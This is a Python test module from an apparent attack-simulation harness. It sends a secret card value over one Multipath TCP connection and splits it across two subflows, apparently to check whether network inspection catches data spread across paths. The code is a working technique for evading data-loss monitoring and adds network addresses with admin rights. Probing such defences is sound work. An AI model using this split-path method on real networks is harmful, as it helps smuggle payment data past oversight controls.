"""One Multipath TCP connection over two subflows: half of the value on each (RFC 8684).

A second address and the path manager's settings take CAP_NET_ADMIN. The first subflow is made
the backup, so that the kernel sends the rest on the second.
"""

from __future__ import annotations

import socket
import subprocess
import time
from pathlib import Path

from attacks.target import Impossible, Target, refused

MPTCP = 262
ENABLED = Path("/proc/sys/net/mptcp/enabled")
JOINED = 0.4


def main(target: Target) -> None:
    """Send the first half, join, send the second.

    Raises:
        Impossible: the kernel has no MPTCP.
    """
    if not ENABLED.exists() or ENABLED.read_text().strip() != "1":
        raise Impossible("this kernel has no MPTCP")
    device, spare = target.device, target.spare
    ip("address", "add", f"{spare}/24", "dev", device)
    ip("mptcp", "limits", "set", "subflows", "4", "add_addr_accepted", "4")
    value, half = target.secret, len(target.secret) // 2
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, MPTCP) as out:
        out.settimeout(2)
        out.bind((target.source, 0))
        out.connect((target.address, target.port))
        with refused():
            out.sendall(b"order 17, card " + value[:half])
            time.sleep(0.1)
            ip("mptcp", "endpoint", "add", target.source, "dev", device, "backup")
            ip("mptcp", "endpoint", "add", spare, "dev", device, "subflow")
            time.sleep(JOINED)
            out.sendall(value[half:] + b", thanks\n")
            time.sleep(0.5)


def ip(*words: str) -> None:
    """A command of iproute2.

    Raises:
        Impossible: it refuses, as without the tool's MPTCP part.
    """
    done = subprocess.run(["ip", *words], capture_output=True, text=True, check=False)
    if done.returncode:
        raise Impossible(f"ip {' '.join(words[:2])}: {done.stderr.strip()}")
